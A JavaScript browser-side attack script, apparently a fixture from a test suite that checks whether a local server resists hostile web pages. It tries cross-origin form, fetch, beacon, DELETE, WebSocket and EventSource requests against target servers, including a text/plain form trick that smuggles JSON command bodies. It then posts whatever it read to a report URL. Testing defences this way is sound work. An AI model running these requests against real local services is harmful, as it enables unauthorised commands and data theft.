/**
 * What a page tries against the servers of the machine that its browser runs on. Served by evilSite.ts, run by a real
 * browser; `PLAN` is put before it. Tells its site what it could read, and whether anything was let load.
 */
async function attackAll() {
  const { name, report, targets } = PLAN;
  const found = [];
  const withTime = (promise, ms = 4000) =>
    Promise.race([promise, new Promise((_, reject) => setTimeout(() => reject(new Error('no answer')), ms))]);

  /** `read`: text that the page has got; null when it has none. */
  const attempt = async (what, act) => {
    try {
      found.push({ what, ...(await withTime(act())) });
    } catch (error) {
      found.push({ what, read: null, error: String(error) });
    }
  };

  const frame = (setUp) =>
    new Promise((resolve) => {
      const inside = document.createElement('iframe');
      inside.name = `f${Math.random()}`;
      document.body.append(inside);
      setUp(inside);
      inside.addEventListener('load', () => {
        let read = null;
        try {
          read = inside.contentDocument.body.textContent;
        } catch {}
        resolve({ read });
      });
    });

  /** A form needs nobody's leave to send. */
  const submit = (action, type, field, value) =>
    frame((inside) => {
      const form = document.createElement('form');
      Object.assign(form, { method: 'post', enctype: type, action, target: inside.name });
      if (field !== undefined) {
        const input = document.createElement('input');
        Object.assign(input, { type: 'hidden', name: field, value });
        form.append(input);
      }
      document.body.append(form);
      form.submit();
    });

  const get = async (url, options) => {
    const answer = await fetch(url, options);
    const read = answer.type === 'opaque' ? null : await answer.text();
    return { read: answer.ok ? read : null, status: answer.status, told: read };
  };

  const load = (tag, url) =>
    new Promise((resolve) => {
      const element = document.createElement(tag);
      element.onload = () => resolve({ read: null, loaded: true });
      element.onerror = () => resolve({ read: null, loaded: false });
      if (tag === 'link') Object.assign(element, { rel: 'stylesheet', href: url });
      else element.src = url;
      document.body.append(element);
    });

  const listen = (url) =>
    new Promise((resolve) => {
      const socket = new WebSocket(url);
      socket.onmessage = ({ data }) => resolve({ read: String(data), opened: true });
      socket.onopen = () => setTimeout(() => resolve({ read: null, opened: true }), 1000);
      socket.onerror = () => resolve({ read: null, opened: false });
    });

  const stream = (url) =>
    new Promise((resolve) => {
      const source = new EventSource(url);
      source.onmessage = ({ data }) => resolve({ read: data, opened: true });
      source.onopen = () => setTimeout(() => resolve({ read: null, opened: true }), 1000);
      source.onerror = () => {
        source.close();
        resolve({ read: null, opened: false });
      };
    });

  const tryAll = async ({ base, commands, bare, reads, events }) => {
    for (const [path, command] of commands) {
      const url = base + path;
      const text = JSON.stringify(command);
      const at = (how) => `${how} ${url}`;
      // What a form sends as text is `name=value`: the "=" is put where it does no harm.
      const field = `${text.slice(0, -1)},"labels":{"a":"`;
      await attempt(at('form, as text'), () => submit(url, 'text/plain', field, '"}}'));
      await attempt(at('form'), () => submit(url, 'application/x-www-form-urlencoded', text, ''));
      await attempt(at('form with parts'), () => submit(url, 'multipart/form-data', 'a', text));
      const post = { method: 'POST', body: text };
      const json = { 'content-type': 'application/json' };
      await attempt(at('fetch, no-cors'), () => get(url, { ...post, mode: 'no-cors' }));
      await attempt(at('fetch, no-cors, as JSON'), () => get(url, { ...post, mode: 'no-cors', headers: json }));
      const blob = new Blob([text], { type: 'application/json' });
      await attempt(at('fetch, no-cors, a blob'), () => get(url, { ...post, body: blob, mode: 'no-cors' }));
      await attempt(at('fetch, as text'), () => get(url, post));
      await attempt(at('fetch, as JSON'), () => get(url, { ...post, headers: json }));
      const token = { authorization: 'Bearer morch_admin_00000000_x' };
      await attempt(at('fetch, with a token'), () => get(url, { ...post, headers: { ...json, ...token } }));
      await attempt(at('beacon'), async () => ({ read: null, sent: navigator.sendBeacon(url, blob) }));
      await attempt(at('keepalive'), () => get(url, { ...post, mode: 'no-cors', keepalive: true }));
    }
    for (const path of bare) {
      await attempt(`form ${base}${path}`, () => submit(base + path, 'application/x-www-form-urlencoded'));
      await attempt(`fetch, no-cors ${base}${path}`, () => get(base + path, { method: 'POST', mode: 'no-cors' }));
      await attempt(`DELETE ${base}${path}`, () => get(base + path.replace(/\/\w+$/, ''), { method: 'DELETE' }));
    }
    for (const path of reads) {
      const url = base + path;
      await attempt(`GET ${url}`, () => get(url));
      await attempt(`GET, no-cors ${url}`, () => get(url, { mode: 'no-cors' }));
      await attempt(`GET, with credentials ${url}`, () => get(url, { credentials: 'include' }));
      await attempt(`frame ${url}`, () =>
        frame((inside) => {
          inside.src = url;
        }),
      );
      for (const tag of ['img', 'script', 'link']) await attempt(`${tag} ${url}`, () => load(tag, url));
    }
    await attempt(`WebSocket ${base}${events}`, () => listen(base.replace('http', 'ws') + events));
    await attempt(`EventSource ${base}${events}`, () => stream(base + events));
  };

  await Promise.all(targets.map(tryAll));
  await fetch(report, { method: 'POST', mode: 'no-cors', body: JSON.stringify({ name, origin, found }) });
}

void attackAll();
